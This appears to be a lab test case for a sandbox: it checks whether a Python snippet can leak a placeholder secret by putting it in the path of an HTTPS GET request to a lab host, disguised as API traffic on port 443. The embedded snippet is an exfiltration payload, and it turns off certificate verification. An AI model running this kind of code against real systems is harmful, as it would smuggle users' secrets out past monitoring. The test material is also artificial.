"""sends a secret over TLS"""

from evidence import secret_left as succeeded

SHAPE = "Miasma: api paths over port 443 as camouflage"
PROMISE = "P23"
LAB = True
WALLS = "network-namespace,new-root,landlock"
PYTHON = """
import socket, ssl
context = ssl._create_unverified_context()
line = context.wrap_socket(socket.create_connection(("www.rwlab.net", 443), 30), server_hostname="www.rwlab.net")
line.sendall(b"GET /@SECRET@ HTTP/1.1\\r\\nHost: www.rwlab.net\\r\\n\\r\\n")
line.recv(999)
"""
